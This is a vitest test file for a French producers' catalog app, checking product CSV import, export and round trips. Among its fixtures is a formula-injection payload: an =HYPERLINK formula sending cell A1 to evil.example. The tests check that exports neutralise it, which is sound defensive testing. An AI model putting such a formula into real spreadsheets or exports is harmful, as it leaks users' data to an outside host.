import { parse } from "csv-parse/sync";
import { stringify } from "csv-stringify/sync";
import { describe, expect, it } from "vitest";
import { db } from "@/lib/db/client";
import { loadActor } from "@/lib/domain/access/actor";
import {
  exportCatalogCsv,
  importProducts,
  parseProductRows,
  previewProductImport,
} from "@/lib/domain/catalog/product-csv";
import { DomainError } from "@/lib/domain/errors";
import { createProducer } from "@/lib/domain/producer/create-producer";
import { createCatalog } from "@/lib/domain/catalog/producer-catalogs";
import { saveProduct } from "@/lib/domain/catalog/save-product";
import { productSchema } from "@/lib/validation/producer";
import { createUser } from "../../support/factories";
import { townGeocoder } from "../../support/fake-geocoder";

async function producerCatalog() {
  const userId = (await createUser()).id;
  const { id: producerId } = await createProducer({
    actor: await loadActor(userId),
    input: {
      name: "Ferme CSV",
      description: null,
      address: null,
      zipCode: null,
      city: null,
      phone: null,
      email: null,
      website: null,
    },
    geocoder: townGeocoder,
  });
  const actor = await loadActor(userId);
  return {
    actor,
    producerId,
    catalog: await createCatalog({ actor, producerId, name: "Catalogue", description: null }),
  };
}

describe("products CSV", () => {
  it("imports all rows or none, with each row's problem, and exports in the same format", async () => {
    const { actor, catalog } = await producerCatalog();
    const bad =
      'nom;description;categorie;unite;quantite_par_unite;prix;tva;bio;vrac;pas\nLentilles;"Vertes; du Puy";GROCERY;KG;1;3,74;550;oui;oui;0,1\nPain;;BAKERY;PIECE;1;3,2o;550\nSel;;SALT;KG;1;2;550';
    expect(parseProductRows(bad).map((r) => [r.line, r.name, r.error])).toEqual([
      [2, "Lentilles", null],
      [3, "Pain", "PRICE_INVALID"],
      [4, "Sel", "CSV_CATEGORY_INVALID"],
    ]);
    await expect(importProducts({ actor, catalogId: catalog.id, text: bad })).rejects.toEqual(
      new DomainError("CSV_HAS_ERRORS", "csv"),
    );
    expect(await db().product.count({ where: { catalogId: catalog.id } })).toBe(0);

    const good = bad.split("\n").slice(0, 2).join("\n") + "\nPain;;BAKERY;G;800;4,20;550;non;non;;;;12;oui";
    expect(await importProducts({ actor, catalogId: catalog.id, text: good })).toEqual({ created: 2 });
    const lentils = await db().product.findFirstOrThrow({ where: { catalogId: catalog.id, name: "Lentilles" } });
    expect(lentils).toMatchObject({ description: "Vertes; du Puy", priceCents: 374, bulk: true, organic: true });
    const { csv } = await exportCatalogCsv({ actor, catalogId: catalog.id });
    expect(csv).toContain('Lentilles;"Vertes; du Puy";GROCERY;KG;1;3,74;550;oui;oui;0,1;non;;;oui');
    expect(csv).toContain("Pain;;BAKERY;G;800;4,20;550;non;non;;non;;12;oui");
    // Round trip: the export imports back as the same products.
    expect(parseProductRows(csv).every((r) => r.error === null)).toBe(true);
    const other = await producerCatalog();
    await expect(importProducts({ actor: other.actor, catalogId: catalog.id, text: good })).rejects.toEqual(
      new DomainError("NOT_FOUND"),
    );
  });

  it("previews a file for the catalog's producer only", async () => {
    const { actor, catalog } = await producerCatalog();
    const text = "nom;description;categorie;unite;quantite_par_unite;prix\nBrioche;;BAKERY;PIECE;1;4,50";
    expect(await previewProductImport({ actor, catalogId: catalog.id, text })).toEqual(parseProductRows(text));
    const other = await producerCatalog();
    await expect(previewProductImport({ actor: other.actor, catalogId: catalog.id, text })).rejects.toEqual(
      new DomainError("NOT_FOUND"),
    );
  });
});

// Names and descriptions a person may type, each a trap for CSV: formulas, a phone-like « + », a leading « - »,
// quotes, separators, line breaks, accents, a leading apostrophe.
const trickyProducts: Record<string, string | undefined>[] = [
  {
    name: '=HYPERLINK("http://evil.example/?q="&A1;"Promo")',
    description: "Cliquez\r\nici, « vite » ; merci",
    bulk: "on",
    organic: "on",
    step: "0,1",
    stock: "12,5",
  },
  { name: "+33 Lentilles", description: 'Dit "bio", vraiment' },
  { name: "-20 % Pois cassés", description: "-10 % le kilo", variableWeight: "on", step: "0,25", maxPrice: "9,90" },
  { name: "@Pain d’épeautre", description: "ligne 1\nligne 2", category: "BAKERY", unit: "PIECE", active: undefined },
  { name: "'=Déjà protégé", description: "=1+1 offert\t;", vatRate: "2000" },
  { name: "Œufs, plein air; x6", unit: "PIECE", quantityPerUnit: "6" },
];

const productColumns = {
  name: true,
  description: true,
  category: true,
  unit: true,
  quantityPerUnit: true,
  priceCents: true,
  vatRateBp: true,
  organic: true,
  bulk: true,
  step: true,
  variableWeight: true,
  maxPriceCents: true,
  stock: true,
  active: true,
} as const;
const productsOf = (catalogId: string) =>
  db().product.findMany({ where: { catalogId }, select: productColumns, orderBy: { name: "asc" } });

describe("products CSV round trip", () => {
  it("imports its own export back as the same products, neutralised against formulas, whatever the separator", async () => {
    const { actor, producerId, catalog } = await producerCatalog();
    // As the product form sends them.
    for (const product of trickyProducts)
      await saveProduct({
        actor,
        catalogId: catalog.id,
        input: productSchema.parse({
          category: "GROCERY",
          unit: "KG",
          quantityPerUnit: "1",
          price: "3,74",
          vatRate: "550",
          active: "on",
          ...product,
        }),
      });
    const original = await productsOf(catalog.id);
    expect(original.map((p) => p.name).sort()).toEqual(trickyProducts.map((p) => p.name).sort());

    const { csv } = await exportCatalogCsv({ actor, catalogId: catalog.id });
    // As a spreadsheet reads the file: no cell typed by the producer starts a formula.
    const cells = parse(csv, { bom: true, delimiter: ";" }) as string[][];
    expect(cells.map((row) => row[0])).toEqual(
      expect.arrayContaining([
        `'=HYPERLINK("http://evil.example/?q="&A1;"Promo")`,
        "'+33 Lentilles",
        "'-20 % Pois cassés",
        "'@Pain d’épeautre",
        "''=Déjà protégé",
        "Œufs, plein air; x6",
      ]),
    );
    expect(cells.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);

    const spreadsheets = {
      "the export itself": csv,
      "saved with `,`, without BOM": stringify(cells, { delimiter: "," }),
      "pasted from a spreadsheet (tab)": stringify(cells.slice(1), { delimiter: "\t" }),
    };
    for (const [how, text] of Object.entries(spreadsheets)) {
      const copy = await createCatalog({ actor, producerId, name: how, description: null });
      expect(
        parseProductRows(text).filter((r) => r.error),
        how,
      ).toEqual([]);
      expect(await importProducts({ actor, catalogId: copy.id, text }), how).toEqual({ created: original.length });
      expect(await productsOf(copy.id), how).toEqual(original);
      expect((await exportCatalogCsv({ actor, catalogId: copy.id })).csv, how).toBe(csv);
    }
  });
});
